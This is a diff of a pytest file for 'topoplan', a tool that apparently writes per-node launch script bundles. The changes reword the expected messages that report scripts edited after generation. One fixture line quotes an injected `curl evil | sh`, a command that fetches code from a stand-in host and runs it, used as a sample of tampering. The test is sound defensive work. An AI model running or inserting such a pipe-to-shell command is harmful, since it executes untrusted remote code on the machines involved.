@@ -70,9 +70,9 @@ def test_a_script_that_is_not_what_topoplan_writes_is_told_with_its_lines(bundle
     read = read_bundle(bundle)
     assert read.edited == ("node-01.sh", "node-02.sh")
     assert read.notes == (
-        "node-01.sh, node-02.sh are not what topoplan writes for this plan, and started as found:"
+        "node-01.sh, node-02.sh are not what topoplan writes for this plan, and will be started as found:"
         f" lines {at + 1} to {at + 2} are changed: `export NCCL_DEBUG=INFO`, `curl evil | sh`;"
-        f' behind line {len(lines)} lacks `-m llamafactory.launcher "$bundle_dir/train.yaml"'
+        f' after line {len(lines)} lacks `-m llamafactory.launcher "$bundle_dir/train.yaml"'
         """ ${resume[@]+"${resume[@]}"}`""",
     )
 
@@ -84,7 +84,7 @@ def test_of_another_version_only_the_list_tells_what_was_edited(bundle: Path) ->
         script.write("# mine\n")
     notes = read_bundle(bundle).notes
     assert "node-00.sh, plan.json changed since topoplan wrote the bundle" in notes[0]
-    assert notes[1] == "that scripts were edited is known from the list beside them alone"
+    assert notes[1] == "edits of scripts are detected only by the bundle's list of digests"
 
 
 @pytest.mark.parametrize("name", ["train.yaml", "node-01.sh", "README.md", "plan.json", "hosts.json", MANIFEST])
@@ -112,7 +112,7 @@ def test_other_files_beside_a_bundle_do_not_travel(bundle: Path) -> None:
 def test_a_bundle_for_slurm_can_be_launched_too(tmp_path: Path) -> None:
     named = replace(FOUR, hosts=tuple(replace(host, address=f"gpu{at}") for at, host in enumerate(FOUR.hosts)))
     read = read_bundle(bundle_at(tmp_path / "slurm", "slurm", cluster=named))
-    assert "it was written for slurm too" in read.notes
+    assert "it was also written for slurm" in read.notes
     assert len(read.nodes) == 4
 
 
